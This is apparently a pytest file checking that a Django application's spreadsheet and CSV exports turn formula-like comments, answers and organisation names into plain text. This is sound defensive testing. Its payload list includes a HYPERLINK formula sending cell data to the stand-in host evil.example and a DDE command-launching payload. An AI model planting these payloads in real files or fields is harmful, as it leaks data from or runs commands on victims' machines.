"""People's text never becomes a live formula in a file we hand out (CSV/formula injection).

A comment, an answer or an organisation name that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is written as text: the files are read back with openpyxl and the csv module, and every such cell is a
string with the leading apostrophe ``qualify.core.spreadsheet.safe_cell`` puts before it.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from qualify.core.actor import system_actor
from qualify.library.tests.helpers import BEFORE_OPENING, DURING, comment, setup_consultation
from qualify.participants.services import organisation_create, participation_create
from qualify.qad import exports
from qualify.qad.models import Answer
from qualify.qad.selectors import version_questions
from qualify.qad.services import answer_save, answers_import
from qualify.qad.tests.helpers import open_qad, publish_sample
from qualify.register.choices import RegisterEventKind, RegisterEventSource
from qualify.register.services import register_event_record

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def assert_text_not_formula(cell, expected: str) -> None:  # type: ignore[no-untyped-def]
    assert cell.data_type == "s", (cell.coordinate, cell.value)
    assert cell.value == "'" + expected, (cell.coordinate, cell.value)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_comment_starting_like_a_formula_is_text_in_the_comments_log(cast, client_for, text):
    with time_machine.travel(BEFORE_OPENING, tick=False):
        setup = setup_consultation()
    with time_machine.travel(DURING, tick=False):
        made = comment(cast, setup, "lead_a", clause="=1+1", text=text)
    response = client_for("admin").get(f"/library/consultations/{setup.consultation.uuid}/log.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    row = sheet[2]
    assert_text_not_formula(row[header.index("Comment")], made.text)
    assert_text_not_formula(row[header.index("Clause reference")], "=1+1")
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


@pytest.mark.parametrize("text", FORMULAS)
def test_an_answer_starting_like_a_formula_is_text_in_the_qad_export_and_imports_back_unchanged(cast, client_for, text):
    publish_sample()
    qad = open_qad(cast.case_a, cast.actor("lead_a"))
    answer_save(actor=cast.actor("lead_a"), response=qad, question_id="Q-1.1", value=text)
    stored = Answer.objects.get(response=qad, question_id="Q-1.1").value
    data = client_for("lead_a").get(reverse("qad:draft_export", args=[cast.case_a.reference, "xlsx"])).content
    sheet = load_workbook(io.BytesIO(data))["Questions"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "Q-1.1")
    assert_text_not_formula(row[header.index("Answer")], stored)
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
    # The apostrophe is the file's, not the answer's: importing the exported file gives the answer back as it was.
    questions = {q.qid: q for q in version_questions(qad.version)}
    Answer.objects.filter(response=qad).delete()
    answers_import(actor=cast.actor("lead_a"), response=qad, rows=exports.read_answer_rows(data, questions))
    assert Answer.objects.get(response=qad, question_id="Q-1.1").value == stored


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", "+44 Energy", "-Minus Power", "@Energy Ltd"])
def test_an_organisation_name_starting_like_a_formula_is_text_in_the_publication_csv(cast, client_for, token_for, name):
    actor = system_actor("tests")
    organisation = organisation_create(actor=actor, name=name)
    participation = participation_create(actor=actor, organisation=organisation, mpid="FRML", role="SUPPLIER")
    register_event_record(
        actor=actor,
        participation=participation,
        kind=RegisterEventKind.QUALIFIED,
        effective_date=dt.date(2026, 3, 1),
        source=RegisterEventSource.IMPORT,
        reference="test",
        reason="imported",
    )
    response = client_for(None).get(
        "/api/v1/register/publication.csv", {"since": "2026-03-01", "until": "2026-03-31"}, **token_for("machine")
    )
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["organisation"] for r in rows] == ["'" + organisation.name]
    assert rows[0]["mpid"] == "FRML" and rows[0]["qualified_from"] == "2026-03-01"
